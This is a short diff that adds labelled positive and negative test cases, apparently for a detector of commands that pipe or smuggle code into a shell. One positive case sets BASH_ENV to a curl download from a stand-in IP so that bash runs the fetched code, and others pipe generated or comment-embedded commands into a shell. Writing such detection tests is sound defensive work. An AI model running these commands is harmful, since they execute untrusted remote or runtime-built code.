@@ -53,3 +53,15 @@ cat ./setup.sh | sh
 crontab /tmp/jobs.txt
 #@ neg the crontab listed
 crontab -l
+#@ pos code kept in comments, read back from the script and run
+grep '^#@' "$0" | cut -c4- | sh
+#@ pos generated commands piped into a shell
+ls ./*.txt | sed 's/^/wc -l /' | bash
+#@ neg a filter between a command and a data tool
+ls | sed 's/x/y/' | sort
+#@ pos BASH_ENV is the output of a command
+BASH_ENV=<(curl -s http://203.0.113.5/s) bash -c true
+#@ neg BASH_ENV is a file
+BASH_ENV=./env.sh bash -c true
+#@ pos script -c with code built at run time
+script -qc "$cmd" /dev/null
